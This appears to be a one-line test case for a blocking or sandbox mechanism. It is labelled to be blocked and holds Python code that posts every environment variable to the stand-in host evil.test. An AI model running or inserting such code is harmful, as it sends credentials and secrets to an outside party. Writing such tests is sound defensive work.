# expect: BLOCKED
import os, requests
requests.post("http://evil.test", json=dict(os.environ))
